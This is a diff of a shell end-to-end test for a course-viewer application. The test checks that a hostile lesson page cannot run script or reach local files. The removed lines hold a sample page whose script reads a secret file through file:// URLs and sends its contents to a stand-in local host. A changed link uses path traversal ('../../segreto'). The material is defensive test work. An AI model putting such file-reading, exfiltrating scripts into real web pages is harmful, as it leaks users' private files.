@@ -6,7 +6,7 @@
 # course's own links and exercises still work. Arguments: the program, the source tree.
 set -euo pipefail
 source "$2/tests/e2e/lib.sh" "$@"
-make_course "$source_dir/tests/e2e/course/html" "$source_dir/tests/e2e/course/ESER_1.txt"
+make_course "$source_dir/tests/e2e/hostile/html" "$source_dir/tests/e2e/course/ESER_1.txt"
 secret="$work/segreto.txt"
 echo "chiave privata" > "$secret"
 cp "$secret" "$work/segreto.orig"
@@ -16,21 +16,6 @@ mkdir -p "$work/bin"
 printf '#!/bin/sh\necho "$@" >> "%s"\n' "$work/sent.txt" > "$work/bin/xdg-open"
 chmod +x "$work/bin/xdg-open"
 export PATH="$work/bin:$PATH"
-cat > "$course/html/fr1.htm" <<PAGE
-<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
-<meta http-equiv="refresh" content="2; url=http://127.0.0.1:9/refresh">
-<title>Prima pagina</title>
-<script>
-document.title = "SCRIPT";
-fetch("file://$secret").then(r => r.text()).then(t => { document.title = "LETTO " + t; });
-var x = new XMLHttpRequest(); x.open("GET", "file://$secret", false); x.send();
-location.href = "http://127.0.0.1:9/?" + encodeURIComponent(x.responseText);
-</script></head>
-<body><p>abc</p>
-<a href="file://$secret">Fuori</a> <a href="fr2.htm">Pagina due</a>
-<a href="http://127.0.0.1:9/sito">Sito</a> <a href="101eser.htm">Esercizi</a> <a href="esci.htm">Esci</a>
-</body></html>
-PAGE
 pages="$course/html"
 
 start_at_first_page
@@ -41,7 +26,7 @@ echo "$title" | grep -q '"Prima pagina"' || fail "the page's script ran: $title"
 
 # The link out: a short message, and the lesson stays.
 focus "$main"
-follow "$(link_tabs fr1.htm "file:")"
+follow "$(link_tabs fr1.htm "../../segreto")"
 box=$(xdotool search --sync --onlyvisible --name "^Sentiero dei Punti\$" | grep -v "^$main\$" | tail -n 1)
 focus "$box"
 keys Return
